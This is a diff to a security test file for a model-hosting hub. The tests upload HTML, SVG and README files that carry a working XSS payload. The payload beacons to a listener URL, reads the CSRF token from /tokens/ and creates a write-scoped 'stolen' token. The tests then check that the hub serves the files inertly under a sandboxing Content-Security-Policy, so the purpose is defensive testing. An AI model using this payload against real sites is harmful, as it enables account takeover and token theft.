@@ -67,7 +67,7 @@ def attack(listener: Listener) -> str:
         "document.title = 'pwned';"
         f"new Image().src = '{listener.url}/ran?at=' + encodeURIComponent(location.href);"
         "fetch('/tokens/', {credentials: 'include'}).then(r => r.text()).then(t => {"
-        "  const csrf = t.match(/name=\"csrfmiddlewaretoken\" value=\"([^\"]+)\"/)[1];"
+        '  const csrf = t.match(/name="csrfmiddlewaretoken" value="([^"]+)"/)[1];'
         "  return fetch('/tokens/', {method: 'POST', credentials: 'include',"
         "    headers: {'Content-Type': 'application/x-www-form-urlencoded'},"
         "    body: 'csrfmiddlewaretoken=' + csrf + '&name=stolen&scope=write'});"
@@ -79,8 +79,7 @@ def hostile_files(listener: Listener) -> dict[str, bytes]:
     js = attack(listener)
     html = f"<!doctype html><html><body><h1>hello</h1><script>{js}</script></body></html>".encode()
     svg = (
-        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
-        f"<script><![CDATA[{js}]]></script></svg>"
+        f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script><![CDATA[{js}]]></script></svg>'
     ).encode()
     readme = (
         "---\nlicense: mit\n---\n# Evil model\n\n"
@@ -108,10 +107,23 @@ def catalog_rows(files: dict[str, bytes], folder: Path) -> tuple[BaseModel, Vari
         (folder / path).parent.mkdir(parents=True, exist_ok=True)
         (folder / path).write_bytes(data)
     rows = [{"path": p, "size": len(d), "sha256": sha256_file(folder / p)} for p, d in files.items()]
-    base = BaseModel.objects.create(name="alice/evil", hf_repo_id="alice/evil", on_this_hub=True, local_path=str(folder),
-                                    files=rows, status=BaseModel.Status.READY, architecture="LlamaForCausalLM")
-    variant = Variant.objects.create(base=base, recipe=Recipe.for_preset("w8a8-int8"), name="alice/evil-w8a8",
-                                     scheme="W8A8", local_path=str(folder), files=rows)
+    base = BaseModel.objects.create(
+        name="alice/evil",
+        hf_repo_id="alice/evil",
+        on_this_hub=True,
+        local_path=str(folder),
+        files=rows,
+        status=BaseModel.Status.READY,
+        architecture="LlamaForCausalLM",
+    )
+    variant = Variant.objects.create(
+        base=base,
+        recipe=Recipe.for_preset("w8a8-int8"),
+        name="alice/evil-w8a8",
+        scheme="W8A8",
+        local_path=str(folder),
+        files=rows,
+    )
     return base, variant
 
 
@@ -148,8 +160,9 @@ def without_query(url: str) -> str:
     return urlunsplit(urlsplit(url)._replace(query=""))
 
 
-def test_it_never_runs_an_uploaded_page_in_the_hubs_origin(hub, alice, alice_token, listener, browser_context,
-                                                         tmp_path, monkeypatch):
+def test_it_never_runs_an_uploaded_page_in_the_hubs_origin(
+    hub, alice, alice_token, listener, browser_context, tmp_path, monkeypatch
+):
     files = hostile_files(listener)
     upload(hub.url, alice_token, files, monkeypatch)
     User.objects.create_user("root", password=STAFF_PASSWORD, is_staff=True, is_superuser=True)
@@ -180,8 +193,11 @@ def test_it_serves_user_files_as_inert_bytes(hub, alice, alice_token, listener, 
     files = hostile_files(listener)
     upload(hub.url, alice_token, files, monkeypatch)
     base, variant = catalog_rows(files, tmp_path / "snapshot")
-    urls = [f"/alice/evil/resolve/main/{p}" for p in files] + [f"/models/{base.pk}/files/{p}" for p in files] \
+    urls = (
+        [f"/alice/evil/resolve/main/{p}" for p in files]
+        + [f"/models/{base.pk}/files/{p}" for p in files]
         + [f"/models/variants/{variant.pk}/files/{p}" for p in files]
+    )
     for url in urls:
         response = httpx2.get(hub.url + url)
         assert response.status_code == 200, url
@@ -194,20 +210,34 @@ def test_it_serves_user_files_as_inert_bytes(hub, alice, alice_token, listener, 
     assert "sandbox" in tar.headers["Content-Security-Policy"]
 
 
-def test_it_runs_the_hubs_own_pages_under_a_policy_without_inline_code(hub, alice, alice_token, browser_context,
-                                                                      monkeypatch):
+def test_it_runs_the_hubs_own_pages_under_a_policy_without_inline_code(
+    hub, alice, alice_token, browser_context, monkeypatch
+):
     """Every page of the hub carries a Content-Security-Policy, and the hub's own pages, the API
     docs and the admin included, work under it: nothing of theirs is refused."""
     upload(hub.url, alice_token, {"README.md": b"# fine\n", "config.json": b"{}"}, monkeypatch)
     staff = User.objects.create_user("root", password=STAFF_PASSWORD, is_staff=True, is_superuser=True)
     base = BaseModel.objects.create(name="org/tiny", status=BaseModel.Status.READY, architecture="LlamaForCausalLM")
-    job = Job.submit(base_model=base, recipes=[Recipe.for_preset("w8a8-int8")], owner=staff, suite="", benchmark_profile="")
+    job = Job.submit(
+        base_model=base, recipes=[Recipe.for_preset("w8a8-int8")], owner=staff, suite="", benchmark_profile=""
+    )
     page = browser_context.new_page()
     refused: list[str] = []
     page.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
     sign_in(page, hub.url, "root", STAFF_PASSWORD)
-    pages = ("/", "/repos/", "/alice/evil", f"/models/{base.pk}/", f"/models/{base.pk}/compare/", "/jobs/",
-             f"/jobs/{job.pk}/", "/jobs/new/", "/tokens/", "/admin/", f"/admin/auth/user/{staff.pk}/change/")
+    pages = (
+        "/",
+        "/repos/",
+        "/alice/evil",
+        f"/models/{base.pk}/",
+        f"/models/{base.pk}/compare/",
+        "/jobs/",
+        f"/jobs/{job.pk}/",
+        "/jobs/new/",
+        "/tokens/",
+        "/admin/",
+        f"/admin/auth/user/{staff.pk}/change/",
+    )
     for path in pages:
         response = page.goto(hub.url + path)
         assert response.ok, path
